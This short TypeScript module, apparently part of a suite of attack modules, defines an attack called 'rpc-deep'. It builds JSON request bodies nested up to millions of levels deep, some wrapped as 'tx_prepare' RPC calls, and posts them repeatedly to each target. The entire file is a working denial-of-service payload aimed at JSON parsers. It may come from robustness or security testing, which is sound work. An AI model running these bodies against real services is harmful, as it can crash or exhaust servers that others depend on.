import type { Attack } from '../attack.ts';
import { callOf, onEach, postAgain } from '../http.ts';

const nested = (open: string, close: string, levels: number): string =>
  `${open.repeat(levels)}0${close.repeat(levels)}`;
const BODIES = [
  '['.repeat(7_800_000),
  nested('{"a":', '}', 1_000_000),
  callOf('tx_prepare', nested('[', ']', 30)),
  callOf('tx_prepare', `{"kind":"transfer","from":"0x","payload":${nested('{"a":', '}', 28)}}`),
] as const;

export const attack: Attack = {
  name: 'rpc-deep',
  what: 'Bodies nest up to millions of levels deep.',
  run: ({ targets }, signal) =>
    onEach(targets, (target) => postAgain(target, (turn) => BODIES[turn % BODIES.length] ?? '', 4, signal)),
};
